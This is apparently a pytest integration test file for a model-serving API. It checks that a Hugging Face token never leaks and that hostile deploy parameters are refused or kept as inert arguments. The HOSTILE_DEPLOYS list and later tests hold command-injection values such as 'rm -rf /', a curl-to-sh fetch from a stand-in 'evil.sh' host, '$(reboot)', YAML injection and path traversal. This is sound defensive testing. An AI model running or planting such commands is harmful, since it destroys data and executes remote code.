"""A Hugging Face token never leaks, and hostile input is refused or stays inert data.

The leak test deploys with a token through the real API and worker, then searches every response, every
row of every table, every Redis key, the worker's log and the API's log lines for it. The only place it
may exist is the Kubernetes Secret the pod references."""

from __future__ import annotations

import base64
import json
import logging
import uuid
from typing import Any

import pytest
from kubernetes import client as k8s
from podium_shared.models.operation import OperationStatus
from sqlalchemy import text
from worker.fixtures import Pipeline, WorkerProcess

from integration.serving_helpers import *  # noqa: F403  (serving_api, helpers)
from integration.serving_helpers import ServingApi, succeeded

pytestmark = pytest.mark.usefixtures("worker")


def _all_rows_as_text(pipeline: Pipeline) -> str:
    with pipeline.sessions() as session:
        tables = session.scalars(
            text("SELECT tablename FROM pg_tables WHERE schemaname = 'public' ORDER BY tablename")
        ).all()
        dump = []
        for table in tables:
            # Table names come from the catalog, quoted as identifiers; nothing user-supplied reaches SQL.
            quoted = session.connection().dialect.identifier_preparer.quote(table)
            dump += session.scalars(text(f"SELECT CAST(t AS text) FROM {quoted} AS t")).all()
    return "\n".join(dump)


def _all_redis_values(pipeline: Pipeline) -> bytes:
    r = pipeline.redis
    out = []
    for key in r.scan_iter(count=1000):
        kind = r.type(key)
        if kind == b"string":
            out.append(r.get(key) or b"")
        elif kind == b"hash":
            out += [k + b"=" + v for k, v in r.hgetall(key).items()]
        elif kind == b"list":
            out += r.lrange(key, 0, -1)
        elif kind == b"set":
            out += list(r.smembers(key))
        elif kind == b"zset":
            out += [m for m, _ in r.zrange(key, 0, -1, withscores=True)]
        elif kind == b"stream":
            out += [json.dumps({k.decode(): v.decode("utf-8", "replace") for k, v in f.items()}).encode()
                    for _id, f in r.xrange(key)]  # fmt: skip
    return b"\n".join(out)


def test_hf_token_never_leaks(
    *,
    pipeline: Pipeline,
    serving_api: ServingApi,
    sim_cluster: str,
    kube: k8s.ApiClient,
    namespace: str,
    worker: WorkerProcess,
    caplog: pytest.LogCaptureFixture,
) -> None:
    token = f"hf_LEAKCHECK{uuid.uuid4().hex}"
    api = serving_api
    caplog.set_level(logging.DEBUG)
    responses: list[str] = []
    accepted = api.command(
        "deploy_model",
        sim_cluster,
        {"namespace": namespace, "command_line": "vllm serve Qwen/Qwen3-0.6B", "hf_token": token},
    )
    assert accepted.status_code == 202, accepted.text
    responses.append(accepted.text)
    op_id = accepted.json()["id"]
    done = succeeded(pipeline, op_id)
    secret_name = done.result["secret"]
    for path, params in [
        (f"/api/v1/operations/{op_id}", None),
        ("/api/v1/operations", {"limit": 100}),
        ("/api/v1/audit", {"limit": 500}),
        ("/api/v1/audit/export", {"format": "jsonl"}),
    ]:
        r = api.client.get(path, params=params, headers=api.headers)
        responses.append(r.text)
    # A validation error echoing input must not echo the token either.
    bad = api.command(
        "deploy_model", sim_cluster, {"namespace": namespace, "model": "a/b", "hf_token": token}
    )
    assert bad.status_code == 422
    responses.append(bad.text)

    assert token not in "\n".join(responses)
    assert token not in _all_rows_as_text(pipeline)
    assert token.encode() not in _all_redis_values(pipeline)
    assert token not in worker.log_path.read_text(errors="replace")
    assert token not in caplog.text

    # The pod reads it from the Secret, by reference; the Deployment holds no value.
    apps, core = k8s.AppsV1Api(kube), k8s.CoreV1Api(kube)
    dep = apps.read_namespaced_deployment(done.result["name"], namespace)
    assert token not in json.dumps(kube.sanitize_for_serialization(dep))
    env = {e.name: e.value_from.secret_key_ref.name for e in dep.spec.template.spec.containers[0].env}
    assert env["HF_TOKEN"] == secret_name
    secret = core.read_namespaced_secret(secret_name, namespace)
    assert base64.b64decode(secret.data["token"]).decode() == token


HOSTILE_DEPLOYS: list[dict[str, Any]] = [
    {"engine": "vllm", "model": "Qwen/Qwen3; rm -rf /"},
    {"engine": "vllm", "model": "$(curl evil.sh | sh)"},
    {"engine": "vllm", "model": "`id`"},
    {"engine": "vllm", "model": "a\nkind: Secret"},
    {"engine": "vllm", "model": "x: {y: 1}"},
    {"engine": "vllm", "model": "--trust-remote-code"},
    {"engine": "vllm", "model": "a" * 300},
    {"command_line": "vllm serve Qwen/Qwen3-0.6B; curl evil.sh | sh"},
    {"command_line": "vllm serve Qwen/Qwen3-0.6B && rm -rf /"},
    {"command_line": "vllm serve Qwen/Qwen3-0.6B\nrm -rf /"},
    {"command_line": "vllm serve -- --model x"},
    {"command_line": "sh -c 'vllm serve x'"},
    {"command_line": "vllm serve 'unclosed"},
    {"engine": "vllm", "model": "a/b", "name": "x; rm"},
    {"engine": "vllm", "model": "a/b", "namespace": "default\nmetadata: {}"},
    {"engine": "vllm", "model": "a/b", "instance_type": "g5 || true"},
    {"engine": "vllm", "model": "a/b", "extra_args": ["rm", "-rf"]},
    {"engine": "vllm", "model": "a/b", "extra_args": ["--x", "line\nbreak"]},
]


@pytest.mark.parametrize("params", HOSTILE_DEPLOYS, ids=range(len(HOSTILE_DEPLOYS)))
def test_hostile_deploy_input_is_refused_with_422(
    serving_api: ServingApi, sim_cluster: str, pipeline: Pipeline, params: dict[str, Any]
) -> None:
    r = serving_api.command("deploy_model", sim_cluster, params)
    assert r.status_code == 422, r.text
    assert r.json()["code"]


def test_malformed_command_line_names_the_bad_token(serving_api: ServingApi, sim_cluster: str) -> None:
    r = serving_api.command(
        "deploy_model", sim_cluster, {"command_line": "vllm serve Qwen/Qwen3-0.6B --tensor-parallel-size two"}
    )
    assert r.status_code == 422
    assert "'two'" in r.text


def test_shell_and_yaml_in_engine_arguments_are_inert_argv(
    pipeline: Pipeline, serving_api: ServingApi, sim_cluster: str, kube: k8s.ApiClient, namespace: str
) -> None:
    template = "{{ messages }} $(id) `whoami`; rm -rf / || true --- kind: Secret"
    r = serving_api.command(
        "deploy_model",
        sim_cluster,
        {
            "namespace": namespace,
            "command_line": f"vllm serve Qwen/Qwen3-0.6B --chat-template '{template}'",
            "extra_args": ["--override-generation-config", '{"x": "$(reboot)"}'],
        },
    )
    assert r.status_code == 202, r.text
    done = succeeded(pipeline, r.json()["id"])
    args = k8s.AppsV1Api(kube).read_namespaced_deployment(done.result["name"], namespace)
    argv = args.spec.template.spec.containers[0].args
    # Stored with `$` doubled: the kubelet turns `$$` back into `$` and never expands `$(VAR)` from it.
    assert argv[-4:] == [
        "--chat-template",
        template.replace("$", "$$"),
        "--override-generation-config",
        '{"x": "$$(reboot)"}',
    ]
    assert args.spec.template.spec.containers[0].command == [
        "python3",
        "-m",
        "vllm.entrypoints.openai.api_server",
    ]


def test_hostile_names_in_pool_commands_are_refused(serving_api: ServingApi, sim_cluster: str) -> None:
    for kind, params in [
        ("create_business_service", {"pool": "p", "business": "prod;x"}),
        ("create_business_service", {"pool": "p", "business": "unassigned"}),
        ("create_business_service", {"pool": "p", "business": "draining"}),
        ("assign_pod", {"pod": "../etc", "business": "prod"}),
        ("assign_pod", {"pod": "p-1", "business": "$(id)"}),
        ("distribute_pool", {"pool": "p", "ratios": {"a b": 1}}),
        ("undeploy_model", {"name": "x`id`"}),
    ]:
        r = serving_api.command(kind, sim_cluster, params)
        assert r.status_code == 422, (kind, params, r.text)


def test_assigning_a_pod_that_is_not_in_a_pool_fails_cleanly(
    pipeline: Pipeline, serving_api: ServingApi, sim_cluster: str, kube: k8s.ApiClient, namespace: str
) -> None:
    k8s.CoreV1Api(kube).create_namespaced_pod(
        namespace,
        {"metadata": {"name": "plain"}, "spec": {"containers": [{"name": "c", "image": "busybox"}]}},
    )
    r = serving_api.command(
        "assign_pod", sim_cluster, {"namespace": namespace, "pod": "plain", "business": "prod"}
    )
    done = pipeline.wait_finished(r.json()["id"])
    assert done.status == OperationStatus.failed
    assert done.error["code"] == "not_a_pool_pod"
